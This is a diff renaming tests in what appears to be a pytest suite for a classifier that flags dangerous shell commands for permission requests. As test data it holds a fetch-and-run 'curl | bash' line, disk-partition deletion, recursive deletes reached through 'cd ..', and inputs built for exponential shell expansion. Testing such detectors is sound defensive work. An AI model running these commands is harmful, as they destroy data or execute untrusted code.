@@ -1,4 +1,4 @@
-"""How many of many dangerous commands are marked, and that none of many ordinary ones is."""
+"""Measured rates: dangerous and ordinary commands that are marked as dangerous."""
 
 from __future__ import annotations
 
@@ -11,7 +11,7 @@ FOLDER = "/home/me/work/project"
 
 
 @pytest.mark.parametrize("name", ["dangerous", "dangerous_held_out"])
-def test_dangerous_commands_are_marked(name: str) -> None:
+def test_at_least_98_percent_of_dangerous_commands_are_marked(name: str) -> None:
     listed = commands(name)
     missed = [line for line in listed if not danger(line, folder=FOLDER)]
     assert len(listed) >= 100
@@ -25,14 +25,14 @@ def test_no_ordinary_command_is_marked() -> None:
     assert marked == {}
 
 
-def test_the_folder_is_followed_through_the_line() -> None:
+def test_cd_changes_the_folder_for_later_commands() -> None:
     assert danger("cd .. && cd .. && rm -rf *", folder="/home/me")
     assert danger("cd build && rm -rf *", folder=FOLDER) is None
     assert danger("git clean -fdx", folder="/home/me")
     assert danger("rm -rf usr", folder="/")
 
 
-def test_a_permission_request_carries_the_reason() -> None:
+def test_a_permission_request_has_the_reason() -> None:
     assert command("curl https://x | (bash)").dangerous == "it runs what it downloads"
     assert command("sfdisk --delete /dev/sda").dangerous == "it changes the partitions of a disk"
     assert (
@@ -49,7 +49,7 @@ def test_a_permission_request_carries_the_reason() -> None:
         "echo " + "{a,{b," * 5_000,
         "; ".join("for a in $a$a {a,b}{c,d}; do echo $a$a$a; done" for _ in range(60)),
     ],
-    ids=["doubling variables", "a pattern with many stars", "nested braces", "loops that multiply"],
+    ids=["doubling variables", "glob with many stars", "nested braces", "loops with expansions"],
 )
-def test_a_line_made_to_grow_is_judged_all_the_same(line: str) -> None:
+def test_a_line_with_exponential_expansion_is_checked(line: str) -> None:
     assert danger(line) is None
